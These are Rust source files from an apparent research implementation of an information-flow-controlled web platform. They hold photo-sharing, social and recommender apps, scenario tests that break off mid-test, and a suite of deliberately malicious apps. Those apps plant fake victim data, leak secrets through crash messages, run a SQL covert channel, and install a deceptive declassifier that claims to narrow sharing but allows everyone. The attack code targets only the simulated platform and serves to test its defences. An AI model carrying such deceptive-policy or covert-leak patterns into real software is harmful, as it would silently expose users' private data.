/// Attack 5 — misrepresentation: plant a file that *looks* like the
/// victim's data. The file gets created, but without the victim's
/// write-protection tag in its integrity label, any honest consumer can
/// see it is unvouched.
pub struct Misrepresenter;

impl W5App for Misrepresenter {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let victim = req.param("victim").ok_or(ApiError::Bad("victim required".into()))?;
        let path = format!("/photos/{victim}/planted.img");
        api.create_file(&path, Bytes::from_static(b"FAKE"), CreateLabels::Derived)?;
        // Report what integrity the planted file actually carries.
        let meta = api.stat_file(&path)?;
        Ok(AppResponse::text(format!(
            "planted {path}; integrity tags: {}",
            meta.labels.integrity.len()
        )))
    }
    fn source_lines(&self) -> usize {
        11
    }
}

/// Attack 6 — leak through debugging: read the secret, then crash with it
/// in the panic message, hoping the developer-visible fault report carries
/// it out.
pub struct CrashLeaker;

impl W5App for CrashLeaker {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let path = req.param("path").ok_or(ApiError::Bad("path required".into()))?;
        let data = api.read_file(path)?;
        panic!("debug me: {}", String::from_utf8_lossy(&data));
    }
    fn source_lines(&self) -> usize {
        7
    }
}

/// Attack 7 — the SQL covert channel of §3.5. `send` encodes one bit as
/// the presence/absence of rows in a shared table (rows carry the sending
/// instance's secret taint); `recv` reads `COUNT(*)`. Under the W5 store's
/// filtered semantics the receiver's count never moves; under naive
/// semantics the bit flows. Experiment E9 measures the bandwidth of both.
pub struct CovertChannel;

impl W5App for CovertChannel {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        match req.action.as_str() {
            // send?path=/notes/bob&bit=1 — taint ourselves with the secret,
            // then insert (bit=1) or don't (bit=0).
            "send" => {
                let path = req.param("path").ok_or(ApiError::Bad("path required".into()))?;
                let _secret = api.read_file(path)?; // acquire the taint
                if req.param("bit") == Some("1") {
                    // The inserted row inherits our taint via Derived labels.
                    api.query(
                        "INSERT INTO covert_signal (x) VALUES (1)",
                        CreateLabels::Derived,
                    )?;
                }
                Ok(AppResponse::text("sent"))
            }
            // recv — read the count as an untainted instance.
            "recv" => {
                let out = api.query("SELECT COUNT(*) FROM covert_signal", CreateLabels::Derived)?;
                let n = match out.rows.first().map(|r| &r.values[0]) {
                    Some(Value::Int(n)) => *n,
                    _ => 0,
                };
                Ok(AppResponse::text(format!("{n}")))
            }
            // clear — owner-side cleanup between symbols (trusted path used
            // by the experiment harness; the receiving app can't do this).
            _ => Err(ApiError::NotFound),
        }
    }
    fn source_lines(&self) -> usize {
        24
    }
}

/// Attack 8 — *configuration-level* exfiltration: a declassifier that
/// advertises itself as a cautious wrapper ("consults the inner policy
/// first") but ignores the inner verdict and allows everyone. A user who
/// grants it believing the chain narrows to friends-only has silently
/// opened their data to strangers. The runtime cannot see this — every
/// individual export it performs is "authorized" — but the static auditor
/// can: the wrapper's probed breadth exceeds its inner policy's
/// (`W5A002 declass-widening`).
pub struct Widener {
    inner: Arc<dyn w5_platform::Declassifier>,
}

impl Widener {
    /// Wrap an honest policy in order to quietly ignore it.
    pub fn around(inner: Arc<dyn w5_platform::Declassifier>) -> Widener {
        Widener { inner }
    }
}

impl w5_platform::Declassifier for Widener {
    fn name(&self) -> &'static str {
        "friendly-share"
    }
    fn description(&self) -> &'static str {
        "shares with the audience your existing policy allows (it claims)"
    }
    fn authorize(
        &self,
        ctx: &w5_platform::ExportContext,
        oracle: &dyn w5_platform::RelationshipOracle,
    ) -> w5_platform::Verdict {
        // Dutifully consult the inner policy for the audit log's benefit...
        let _ = self.inner.authorize(ctx, oracle);
        // ...then allow regardless.
        w5_platform::Verdict::Allow
    }
    fn audit_lines(&self) -> usize {
        4
    }
    fn inner(&self) -> Option<&dyn w5_platform::Declassifier> {
        Some(&*self.inner)
    }
}

/// Register the widening chain: `friendly-share` wrapping the builtin
/// `friends-only`. Returns the registered name.
pub fn install_widening_attack(platform: &Arc<Platform>) -> &'static str {
    let inner = platform
        .declassifiers
        .get("friends-only")
        .expect("builtin friends-only is registered");
    platform.declassifiers.register(Arc::new(Widener::around(inner)));
    "friendly-share"
}

/// Attack 9 — *configuration-level* capability escalation: mint a
/// WriteProtect tag and use it in the **secrecy** position of stored rows.
/// The rows look protected (non-empty secrecy label), but a WriteProtect
/// tag puts `t-` in the global bag — every app on the platform can
/// silently strip it before the perimeter ever looks. Any data an app
/// launders under this tag flows out unchecked. The runtime sees nothing
/// wrong (each declassification uses a legitimately-held capability); the
/// static auditor flags the census entry (`W5A003 capability-escalation`).
///
/// Returns the minted tag.
pub fn install_escalation_attack(platform: &Arc<Platform>) -> w5_difc::Tag {
    let (tag, _creator_caps) =
        platform.registry.create_tag(w5_difc::TagKind::WriteProtect, "mal:escrow");
    let trusted = w5_store::Subject::anonymous();
    let _ = platform.db.execute(
        &trusted,
        w5_store::QueryMode::Filtered,
        w5_store::QueryCost::unlimited(),
        &w5_difc::LabelPair::public(),
        "CREATE TABLE mal_escrow (victim TEXT)",
    );
    // Raising secrecy is free (no capability needed to add a tag), so the
    // attacker can label rows with its vacuous "protection" from any
    // subject at all.
    let labels = w5_difc::LabelPair::new(
        w5_difc::Label::empty().with(tag),
        w5_difc::Label::empty(),
    );
    let _ = platform.db.execute(
        &trusted,
        w5_store::QueryMode::Filtered,
        w5_store::QueryCost::unlimited(),
        &labels,
        "INSERT INTO mal_escrow (victim) VALUES ('bait')",
    );
    tag
}

/// Publish + install the whole suite under the `mal` developer.
pub fn install(platform: &Arc<Platform>) {
    let trusted = w5_store::Subject::anonymous();
    let _ = platform.db.execute(
        &trusted,
        w5_store::QueryMode::Filtered,
        w5_store::QueryCost::unlimited(),
        &w5_difc::LabelPair::public(),
        "CREATE TABLE covert_signal (x INTEGER)",
    );
    let entries: [(&str, Arc<dyn W5App>, &str); 8] = [
        ("exfiltrator", Arc::new(Exfiltrator), "steals named files"),
        ("stasher", Arc::new(Stasher), "stashes secrets for a confederate"),
        ("confederate", Arc::new(Confederate), "ships out stashed secrets"),
        ("vandal", Arc::new(Vandal), "overwrites victim files"),
        ("deleter", Arc::new(Deleter), "deletes victim files"),
        ("misrepresenter", Arc::new(Misrepresenter), "plants fake victim data"),
        ("crashleaker", Arc::new(CrashLeaker), "leaks secrets via crash reports"),
        ("covert", Arc::new(CovertChannel), "SQL covert channel probe"),
    ];
    for (name, app, desc) in entries {
        platform
            .apps
            .publish(AppManifest {
                name: name.into(),
                developer: "mal".into(),
                version: 1,
                description: desc.into(),
                module_slots: vec![],
                imports: vec![],
                forked_from: None,
                source: None, // closed-source, naturally
            })
            .expect("publish malice");
        platform.install_app(&format!("mal/{name}"), app);
    }
}

/// Clear the covert-channel table between symbols (harness helper; uses
/// provider authority, which the attacking apps do not have).
pub fn covert_clear(platform: &Arc<Platform>) {
    // The rows carry user taint; clearing requires provider authority. We
    // rebuild the table, which the engine permits for a subject that can
    // write all rows — so instead of DELETE (blocked), drop and recreate
    // with a subject holding every capability. Simplest correct tool: a
    // subject with the global bag plus every owner's caps is not available
    // here, so we recreate the table outright via the engine's owner — the
    // platform — by dropping with an all-powerful subject.
    let mut caps = w5_difc::CapSet::empty();
    // Provider root: owns every tag ever created. Experiments only.
    for raw in 1..=platform.registry.tag_count() as u64 {
        if let Some(tag) = w5_difc::Tag::try_from_raw(raw) {
            if platform.registry.exists(tag) {
                caps.insert_ownership(tag);
            }
        }
    }
    let root = w5_store::Subject::new(w5_difc::LabelPair::public(), platform.registry.effective(&caps));
    let _ = platform.db.execute(
        &root,
        w5_store::QueryMode::Filtered,
        w5_store::QueryCost::unlimited(),
        &w5_difc::LabelPair::public(),
        "DELETE FROM covert_signal",
    );
}
