//! Photo sharing — the paper's running example of data decoupled from
//! applications.
//!
//! Photos live at `/photos/<owner>/<name>` with the owner's default labels;
//! *any* application may read them (subject to taint), and the owner's
//! declassifier choices decide who sees the output. The `crop` action runs
//! whichever [`CropModule`] the viewer's policy selected.

use crate::image::{CenteredCrop, CropModule, Image, TopLeftCrop};
use bytes::Bytes;
use std::collections::HashMap;
use std::sync::Arc;
use w5_platform::{
    ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, ModuleManifest, Platform,
    PlatformApi, W5App,
};

/// The photo-sharing application.
pub struct PhotoApp {
    croppers: HashMap<&'static str, Arc<dyn CropModule>>,
}

impl Default for PhotoApp {
    fn default() -> Self {
        PhotoApp::new()
    }
}

impl PhotoApp {
    /// An instance with both competing crop modules available.
    pub fn new() -> PhotoApp {
        let mut croppers: HashMap<&'static str, Arc<dyn CropModule>> = HashMap::new();
        croppers.insert("devA", Arc::new(TopLeftCrop));
        croppers.insert("devB", Arc::new(CenteredCrop));
        PhotoApp { croppers }
    }

    fn photo_path(owner: &str, name: &str) -> Result<String, ApiError> {
        if name.is_empty() || name.contains('/') || owner.is_empty() || owner.contains('/') {
            return Err(ApiError::Bad("bad photo name".into()));
        }
        Ok(format!("/photos/{owner}/{name}"))
    }
}

impl W5App for PhotoApp {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        match req.action.as_str() {
            // upload?name=cat&w=16&h=16&fill=128  (or body = raw W5IMG)
            "upload" => {
                let owner = api.viewer().ok_or(ApiError::Denied)?.to_string();
                let name = req.param("name").ok_or(ApiError::Bad("name required".into()))?;
                let data = if req.body.is_empty() {
                    let w: usize = req.param("w").and_then(|s| s.parse().ok()).unwrap_or(16);
                    let h: usize = req.param("h").and_then(|s| s.parse().ok()).unwrap_or(16);
                    match req.param("fill").and_then(|s| s.parse::<u8>().ok()) {
                        Some(v) => Image::filled(w.min(1024), h.min(1024), v).encode(),
                        None => Image::test_card(w.min(1024), h.min(1024)).encode(),
                    }
                } else {
                    Image::decode(&req.body).map_err(ApiError::Bad)?;
                    req.body.clone()
                };
                let path = Self::photo_path(&owner, name)?;
                api.create_file(&path, data, CreateLabels::ViewerData)?;
                Ok(AppResponse::text(format!("uploaded {path}")))
            }
            // list?user=bob
            "list" => {
                let user = req
                    .param("user")
                    .map(str::to_string)
                    .or_else(|| api.viewer().map(str::to_string))
                    .ok_or(ApiError::Bad("user required".into()))?;
                let entries = api.list_files(&format!("/photos/{user}"))?;
                let mut html = format!("<html><body><h1>{user}'s photos</h1><ul>");
                for e in entries {
                    html.push_str(&format!("<li>{} ({} bytes)</li>", e.path, e.size));
                }
                html.push_str("</ul></body></html>");
                Ok(AppResponse::html(html))
            }
            // view?user=bob&name=cat
            "view" => {
                let user = req.param("user").ok_or(ApiError::Bad("user required".into()))?;
                let name = req.param("name").ok_or(ApiError::Bad("name required".into()))?;
                let data = api.read_file(&Self::photo_path(user, name)?)?;
                Ok(AppResponse {
                    content_type: "image/x-w5img".into(),
                    body: data,
                })
            }
            // crop?user=bob&name=cat&w=4&h=4 — runs the user's chosen module
            "crop" => {
                let user = req.param("user").ok_or(ApiError::Bad("user required".into()))?;
                let name = req.param("name").ok_or(ApiError::Bad("name required".into()))?;
                let w: usize = req.param("w").and_then(|s| s.parse().ok()).unwrap_or(8);
                let h: usize = req.param("h").and_then(|s| s.parse().ok()).unwrap_or(8);
                let dev = req.module("crop").unwrap_or("devA");
                let cropper = self
                    .croppers
                    .get(dev)
                    .ok_or_else(|| ApiError::Bad(format!("no crop module from {dev}")))?;
                let data = api.read_file(&Self::photo_path(user, name)?)?;
                let img = Image::decode(&data).map_err(ApiError::Bad)?;
                let out = cropper.crop(&img, w, h);
                api.log(format!("cropped {user}/{name} via {dev}"));
                Ok(AppResponse {
                    content_type: "image/x-w5img".into(),
                    body: out.encode(),
                })
            }
            _ => Err(ApiError::NotFound),
        }
    }

    fn source_lines(&self) -> usize {
        crate::source_line_count!("photos.rs")
    }
}

/// Publish the manifest (with its `crop` slot and both module offerings)
/// and install the implementation.
pub fn install(platform: &Arc<Platform>) {
    platform
        .apps
        .publish(AppManifest {
            name: "photos".into(),
            developer: "devA".into(),
            version: 1,
            description: "photo sharing with pluggable crop modules".into(),
            module_slots: vec!["crop".into()],
            imports: vec![],
            forked_from: None,
            source: Some(include_str!("photos.rs").to_string()),
        })
        .expect("publish photos");
    platform
        .apps
        .publish_module(ModuleManifest {
            for_app: "devA/photos".into(),
            slot: "crop".into(),
            developer: "devA".into(),
            description: "top-left crop".into(),
        })
        .expect("module devA");
    platform
        .apps
        .publish_module(ModuleManifest {
            for_app: "devA/photos".into(),
            slot: "crop".into(),
            developer: "devB".into(),
            description: "centered crop".into(),
        })
        .expect("module devB");
    platform.install_app("devA/photos", Arc::new(PhotoApp::new()));
}

/// Handy for tests: upload a test-card photo directly.
pub fn upload_test_photo(
    platform: &Arc<Platform>,
    owner: &w5_platform::Account,
    name: &str,
    size: usize,
) -> u16 {
    let req = Platform::make_request(
        "POST",
        "upload",
        &[("name", name), ("w", &size.to_string()), ("h", &size.to_string())],
        Some(owner),
        Bytes::new(),
    );
    platform.invoke(Some(owner), "devA/photos", req).status
}
