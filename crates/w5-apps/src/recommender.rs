//! The recommendation engine over private data (§2 Examples).
//!
//! "Bob can deploy an application that sends him daily e-mail with the 5
//! most 'relevant' photos and blog entries posted by his friends." The
//! point: the recommender reads *everyone's* private posts to rank them —
//! something no status-quo site would allow a third-party app — and the
//! platform still guarantees nothing leaks: the digest carries every
//! contributor's tag, so only a viewer every contributor's policy clears
//! can see it.
//!
//! Scoring is keyword overlap between the viewer's stored preference list
//! and each candidate item, which keeps the experiment deterministic.

use std::sync::Arc;
use w5_platform::{
    sql_escape, ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, Platform,
    PlatformApi, W5App,
};
use w5_store::Value;

/// The recommender application.
pub struct RecommenderApp;

impl RecommenderApp {
    fn prefs_path(user: &str) -> String {
        format!("/recs/{user}")
    }

    /// Keyword-overlap score.
    fn score(keywords: &[String], text: &str) -> usize {
        let lower = text.to_ascii_lowercase();
        keywords
            .iter()
            .filter(|k| !k.is_empty() && lower.contains(&k.to_ascii_lowercase()))
            .count()
    }
}

impl W5App for RecommenderApp {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        match req.action.as_str() {
            // prefs?keywords=rust,hiking,jazz
            "prefs" => {
                let me = api.viewer().ok_or(ApiError::Denied)?.to_string();
                let kw = req.param("keywords").unwrap_or("").to_string();
                let path = Self::prefs_path(&me);
                match api.write_file(&path, kw.clone().into_bytes().into()) {
                    Ok(()) => {}
                    Err(ApiError::NotFound) => api.create_file(
                        &path,
                        kw.into_bytes().into(),
                        CreateLabels::ViewerData,
                    )?,
                    Err(e) => return Err(e),
                }
                Ok(AppResponse::text("preferences saved"))
            }
            // digest?n=5 — the daily top-N over friends' blog posts
            "digest" => {
                let me = api.viewer().ok_or(ApiError::Denied)?.to_string();
                let n: usize = req.param("n").and_then(|s| s.parse().ok()).unwrap_or(5);
                let keywords: Vec<String> = match api.read_file(&Self::prefs_path(&me)) {
                    Ok(data) => String::from_utf8_lossy(&data)
                        .split(',')
                        .map(str::to_string)
                        .collect(),
                    Err(ApiError::NotFound) => Vec::new(),
                    Err(e) => return Err(e),
                };
                // Which friends?
                let friends = api.query(
                    &format!(
                        "SELECT friend FROM w5_friends WHERE owner = '{}'",
                        sql_escape(&me)
                    ),
                    CreateLabels::Derived,
                )?;
                // Score every friend post. This read path taints the
                // instance with each friend's tag — exactly the paper's
                // "read everything, export only what policy allows".
                let mut scored: Vec<(usize, String, String)> = Vec::new();
                for row in &friends.rows {
                    let Value::Text(friend) = &row.values[0] else { continue };
                    let posts = api.query(
                        &format!(
                            "SELECT title, body FROM blog_posts WHERE owner = '{}'",
                            sql_escape(friend)
                        ),
                        CreateLabels::Derived,
                    )?;
                    for post in &posts.rows {
                        let title = post.values[0].render();
                        let body = post.values[1].render();
                        let s = Self::score(&keywords, &body) + Self::score(&keywords, &title) * 2;
                        scored.push((s, friend.clone(), title));
                    }
                }
                scored.sort_by(|a, b| b.0.cmp(&a.0).then_with(|| a.2.cmp(&b.2)));
                scored.truncate(n);
                let mut html = format!("<html><body><h1>daily digest for {me}</h1><ol>");
                for (score, friend, title) in &scored {
                    html.push_str(&format!("<li>{title} — {friend} (score {score})</li>"));
                }
                html.push_str("</ol></body></html>");
                Ok(AppResponse::html(html))
            }
            _ => Err(ApiError::NotFound),
        }
    }

    fn source_lines(&self) -> usize {
        crate::source_line_count!("recommender.rs")
    }
}

/// Publish + install.
pub fn install(platform: &Arc<Platform>) {
    platform
        .apps
        .publish(AppManifest {
            name: "recommender".into(),
            developer: "devD".into(),
            version: 1,
            description: "top-N digest over friends' private posts".into(),
            module_slots: vec![],
            imports: vec!["devB/blog".into(), "devC/social".into()],
            forked_from: None,
            source: Some(include_str!("recommender.rs").to_string()),
        })
        .expect("publish recommender");
    platform.install_app("devD/recommender", Arc::new(RecommenderApp));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scoring_counts_keyword_hits() {
        let kws = vec!["rust".to_string(), "jazz".to_string()];
        assert_eq!(RecommenderApp::score(&kws, "I love Rust and jazz"), 2);
        assert_eq!(RecommenderApp::score(&kws, "nothing relevant"), 0);
        assert_eq!(RecommenderApp::score(&kws, "RUST!"), 1, "case-insensitive");
        assert_eq!(RecommenderApp::score(&[], "anything"), 0);
    }
}
