//! Social networking: profiles, a friends feed, and the chameleon display.
//!
//! Profiles are JSON documents at `/profiles/<user>` under the owner's
//! labels. The feed commingles every friend's profile — the output carries
//! *all* their tags, so it only exports when every friend's declassifier
//! clears the viewer: aggregation without a trusted aggregator, the
//! paper's central trick.
//!
//! The **chameleon** profile (§2 Examples: "hide his penchant for Sci-Fi
//! novels from love interests") is plain app logic over the owner's own
//! data: the profile document carries a `hide` map from interest to the
//! viewers it should be hidden from.

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::sync::Arc;
use w5_platform::{
    sql_escape, ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, Platform,
    PlatformApi, W5App,
};
use w5_store::Value;

/// The stored profile document.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Profile {
    /// Free-text bio.
    pub bio: String,
    /// Interests, displayed on the profile.
    pub interests: Vec<String>,
    /// Chameleon rules: interest → usernames it is hidden from.
    #[serde(default)]
    pub hide: BTreeMap<String, Vec<String>>,
}

/// The social-networking application.
pub struct SocialApp;

impl SocialApp {
    fn profile_path(user: &str) -> Result<String, ApiError> {
        if user.is_empty() || user.contains('/') {
            return Err(ApiError::Bad("bad user".into()));
        }
        Ok(format!("/profiles/{user}"))
    }

    fn load_profile(api: &mut PlatformApi<'_>, user: &str) -> Result<Profile, ApiError> {
        let data = api.read_file(&Self::profile_path(user)?)?;
        serde_json::from_slice(&data).map_err(|e| ApiError::Bad(format!("corrupt profile: {e}")))
    }

    fn render_profile(owner: &str, profile: &Profile, viewer: Option<&str>) -> String {
        let mut shown: Vec<&String> = profile
            .interests
            .iter()
            .filter(|interest| match viewer {
                Some(v) => !profile
                    .hide
                    .get(*interest)
                    .map(|hidden_from| hidden_from.iter().any(|h| h == v))
                    .unwrap_or(false),
                None => true,
            })
            .collect();
        shown.sort();
        format!(
            "<html><body><h1>{owner}</h1><p>{}</p><ul>{}</ul></body></html>",
            profile.bio,
            shown
                .iter()
                .map(|i| format!("<li>{i}</li>"))
                .collect::<String>()
        )
    }
}

impl W5App for SocialApp {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        match req.action.as_str() {
            // set_profile?bio=...&interests=a,b,c&hide=scifi:alice|carol
            "set_profile" => {
                let owner = api.viewer().ok_or(ApiError::Denied)?.to_string();
                let bio = req.param("bio").unwrap_or("").to_string();
                let interests: Vec<String> = req
                    .param("interests")
                    .unwrap_or("")
                    .split(',')
                    .filter(|s| !s.is_empty())
                    .map(str::to_string)
                    .collect();
                let mut hide = BTreeMap::new();
                if let Some(h) = req.param("hide") {
                    // format: interest:viewer1|viewer2;interest2:viewer3
                    for rule in h.split(';').filter(|s| !s.is_empty()) {
                        if let Some((interest, viewers)) = rule.split_once(':') {
                            hide.insert(
                                interest.to_string(),
                                viewers.split('|').map(str::to_string).collect(),
                            );
                        }
                    }
                }
                let profile = Profile { bio, interests, hide };
                let body = serde_json::to_vec(&profile)
                    .map_err(|e| ApiError::Bad(e.to_string()))?;
                let path = Self::profile_path(&owner)?;
                match api.write_file(&path, body.clone().into()) {
                    Ok(()) => {}
                    Err(ApiError::NotFound) => {
                        api.create_file(&path, body.into(), CreateLabels::ViewerData)?
                    }
                    Err(e) => return Err(e),
                }
                Ok(AppResponse::text("profile saved"))
            }
            // view?user=bob — chameleon rendering for the current viewer
            "view" => {
                let user = req.param("user").ok_or(ApiError::Bad("user required".into()))?;
                let profile = Self::load_profile(api, user)?;
                let viewer = api.viewer().map(str::to_string);
                Ok(AppResponse::html(Self::render_profile(user, &profile, viewer.as_deref())))
            }
            // feed — every friend's profile, commingled
            "feed" => {
                let me = api.viewer().ok_or(ApiError::Denied)?.to_string();
                let out = api.query(
                    &format!(
                        "SELECT friend FROM w5_friends WHERE owner = '{}' ORDER BY friend",
                        sql_escape(&me)
                    ),
                    CreateLabels::Derived,
                )?;
                let mut html = format!("<html><body><h1>{me}'s feed</h1>");
                for row in &out.rows {
                    if let Value::Text(friend) = &row.values[0] {
                        match Self::load_profile(api, friend) {
                            Ok(p) => {
                                html.push_str(&format!("<h2>{friend}</h2><p>{}</p>", p.bio))
                            }
                            Err(ApiError::NotFound) => {
                                html.push_str(&format!("<h2>{friend}</h2><p>(no profile)</p>"))
                            }
                            Err(e) => return Err(e),
                        }
                    }
                }
                html.push_str("</body></html>");
                Ok(AppResponse::html(html))
            }
            _ => Err(ApiError::NotFound),
        }
    }

    fn source_lines(&self) -> usize {
        crate::source_line_count!("social.rs")
    }
}

/// Publish + install.
pub fn install(platform: &Arc<Platform>) {
    platform
        .apps
        .publish(AppManifest {
            name: "social".into(),
            developer: "devC".into(),
            version: 1,
            description: "profiles, friends feed, chameleon display".into(),
            module_slots: vec![],
            imports: vec!["devB/blog".into()],
            forked_from: None,
            source: Some(include_str!("social.rs").to_string()),
        })
        .expect("publish social");
    platform.install_app("devC/social", Arc::new(SocialApp));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn chameleon_rendering_hides_per_viewer() {
        let mut hide = BTreeMap::new();
        hide.insert("scifi".to_string(), vec!["date1".to_string(), "date2".to_string()]);
        let p = Profile {
            bio: "hello".into(),
            interests: vec!["scifi".into(), "cooking".into()],
            hide,
        };
        let for_friend = SocialApp::render_profile("bob", &p, Some("friend"));
        assert!(for_friend.contains("scifi"));
        assert!(for_friend.contains("cooking"));
        let for_date = SocialApp::render_profile("bob", &p, Some("date1"));
        assert!(!for_date.contains("scifi"), "{for_date}");
        assert!(for_date.contains("cooking"));
        let anon = SocialApp::render_profile("bob", &p, None);
        assert!(anon.contains("scifi"));
    }
}
