//! Scenario tests: the paper's §2 examples and §3 attacks, end to end on
//! the platform.

use bytes::Bytes;
use std::sync::Arc;
use w5_apps::{install_all, photos::upload_test_photo};
use w5_platform::{Account, GrantScope, Platform};

struct World {
    p: Arc<Platform>,
    bob: Account,
    alice: Account,
    carol: Account,
}

/// bob ↔ alice are friends; carol is a stranger. Everyone delegates write
/// to the honest apps they use.
fn world() -> World {
    let p = Platform::new_default("test");
    install_all(&p);
    let bob = p.accounts.register("bob", "pw").unwrap();
    let alice = p.accounts.register("alice", "pw").unwrap();
    let carol = p.accounts.register("carol", "pw").unwrap();
    for u in [&bob, &alice, &carol] {
        for app in ["devA/photos", "devB/blog", "devC/social", "devD/recommender", "devD/dating"] {
            p.policies.delegate_write(u.id, app);
            p.policies.enroll(u.id, app);
        }
    }
    p.add_friend("bob", "alice");
    p.add_friend("alice", "bob");
    World { p, bob, alice, carol }
}

fn invoke(
    w: &World,
    viewer: Option<&Account>,
    app: &str,
    method: &str,
    action: &str,
    params: &[(&str, &str)],
) -> w5_platform::InvokeResult {
    let req = Platform::make_request(method, action, params, viewer, Bytes::new());
    w.p.invoke(viewer, app, req)
}

#[test]
fn photo_upload_view_and_module_choice() {
    let w = world();
    assert_eq!(upload_test_photo(&w.p, &w.bob, "cat", 10), 200);

    // Bob views his own photo.
    let r = invoke(&w, Some(&w.bob), "devA/photos", "GET", "view", &[("user", "bob"), ("name", "cat")]);
    assert_eq!(r.status, 200);

    // Default crop module is devA (top-left ⇒ first pixel 0).
    let r = invoke(
        &w,
        Some(&w.bob),
        "devA/photos",
        "GET",
        "crop",
        &[("user", "bob"), ("name", "cat"), ("w", "4"), ("h", "4")],
    );
    assert_eq!(r.status, 200);
    let img = w5_apps::image::Image::decode(&r.body).unwrap();
    assert_eq!(img.get(0, 0), 0, "devA crops top-left");

    // Bob switches to devB's centered cropper — pure policy, no app change.
    w.p.policies.choose_module(w.bob.id, "devA/photos", "crop", "devB");
    let r = invoke(
        &w,
        Some(&w.bob),
        "devA/photos",
        "GET",
        "crop",
        &[("user", "bob"), ("name", "cat"), ("w", "4"), ("h", "4")],
    );
    assert_eq!(r.status, 200);
    let img = w5_apps::image::Image::decode(&r.body).unwrap();
    assert_eq!(img.get(0, 0), 6, "devB crops centered");

    // Alice (friend, but no grant yet) cannot see Bob's photo.
    let r = invoke(&w, Some(&w.alice), "devA/photos", "GET", "view", &[("user", "bob"), ("name", "cat")]);
    assert_eq!(r.status, 403);
    // With a friends-only grant she can.
    w.p.policies
        .grant_declassifier(w.bob.id, "friends-only", GrantScope::App("devA/photos".into()));
    let r = invoke(&w, Some(&w.alice), "devA/photos", "GET", "view", &[("user", "bob"), ("name", "cat")]);
    assert_eq!(r.status, 200);
    // Carol (stranger) still cannot.
    let r = invoke(&w, Some(&w.carol), "devA/photos", "GET", "view", &[("user", "bob"), ("name", "cat")]);
    assert_eq!(r.status, 403);
}

#[test]
fn blog_post_and_cross_user_reads() {
    let w = world();
    let r = invoke(
        &w,
        Some(&w.bob),
        "devB/blog",
        "POST",
        "post",
        &[("title", "hello"), ("body", "my first post about rust")],
    );
    assert_eq!(r.status, 200, "{:?}", String::from_utf8_lossy(&r.body));

    // Bob lists and reads his own blog.
    let r = invoke(&w, Some(&w.bob), "devB/blog", "GET", "list", &[("user", "bob")]);
    assert_eq!(r.status, 200);
    assert!(String::from_utf8_lossy(&r.body).contains("hello"));
    let r = invoke(&w, Some(&w.bob), "devB/blog", "GET", "read", &[("user", "bob"), ("title", "hello")]);
    assert_eq!(r.status, 200);
    assert!(String::from_utf8_lossy(&r.body).contains("rust"));

    // The world reads it only after a public grant — the "private blog"
    // default of §1.
    let r = invoke(&w, None, "devB/blog", "GET", "read", &[("user", "bob"), ("title", "hello")]);
    assert_eq!(r.status, 403);
    w.p.policies
        .grant_declassifier(w.bob.id, "public-read", GrantScope::App("devB/blog".into()));
    let r = invoke(&w, None, "devB/blog", "GET", "read", &[("user", "bob"), ("title", "hello")]);
    assert_eq!(r.status, 200);
}

#[test]
fn chameleon_profile_adjusts_by_viewer() {
    let w = world();
    // Bob hides scifi from carol (his love interest), not from alice.
    let r = invoke(
        &w,
        Some(&w.bob),
        "devC/social",
        "POST",
        "set_profile",
        &[
            ("bio", "hi"),
            ("interests", "scifi,cooking"),
            ("hide", "scifi:carol"),
        ],
    );
    assert_eq!(r.status, 200, "{:?}", String::from_utf8_lossy(&r.body));
    w.p.policies
        .grant_declassifier(w.bob.id, "public-read", GrantScope::App("devC/social".into()));

    let r = invoke(&w, Some(&w.alice), "devC/social", "GET", "view", &[("user", "bob")]);
    assert_eq!(r.status, 200);
    assert!(String::from_utf8_lossy(&r.body).contains("scifi"));

    let r = invoke(&w, Some(&w.carol), "devC/social", "GET", "view", &[("user", "bob")]);
    assert_eq!(r.status, 200);
    let body = String::from_utf8_lossy(&r.body).into_owned();
    assert!(!body.contains("scifi"), "{body}");
    assert!(body.contains("cooking"));
}

#[test]
fn feed_commingles_and_requires_every_grant() {
    let w = world();
    // Alice and Bob both have profiles; Bob's feed shows Alice (his friend).
    for (u, bio) in [(&w.bob, "bob here"), (&w.alice, "alice here")] {
        let r = invoke(&w, Some(u), "devC/social", "POST", "set_profile", &[("bio", bio), ("interests", "x")]);
        assert_eq!(r.status, 200);
    }
    // Bob's feed contains Alice's data ⇒ carries her tag ⇒ blocked until
    // she grants something that clears Bob.
    let r = invoke(&w, Some(&w.bob), "devC/social", "GET", "feed", &[]);
    assert_eq!(r.status, 403, "alice's tag blocks bob's own feed");
    w.p.policies
        .grant_declassifier(w.alice.id, "friends-only", GrantScope::App("devC/social".into()));
    let r = invoke(&w, Some(&w.bob), "devC/social", "GET", "feed", &[]);
    assert_eq!(r.status, 200, "{:?}", String::from_utf8_lossy(&r.body));
    assert!(String::from_utf8_lossy(&r.body).contains("alice here"));
}

#[test]
fn recommender_digest_over_friends_posts() {
    let w = world();
    // Alice posts two entries; Bob sets preferences and asks for a digest.
    for (t, b) in [("jazz night", "a post about jazz"), ("laundry", "chores")] {
        let r = invoke(&w, Some(&w.alice), "devB/blog", "POST", "post", &[("title", t), ("body", b)]);
        assert_eq!(r.status, 200);
    }
    let r = invoke(&w, Some(&w.bob), "devD/recommender", "POST", "prefs", &[("keywords", "jazz")]);
    assert_eq!(r.status, 200);

    // The digest reads Alice's posts ⇒ blocked until she clears Bob.
    let r = invoke(&w, Some(&w.bob), "devD/recommender", "GET", "digest", &[("n", "5")]);
    assert_eq!(r.status, 403);
    w.p.policies
        .grant_declassifier(w.alice.id, "friends-only", GrantScope::AllApps);
    let r = invoke(&w, Some(&w.bob), "devD/recommender", "GET", "digest", &[("n", "5")]);
    assert_eq!(r.status, 200, "{:?}", String::from_utf8_lossy(&r.body));
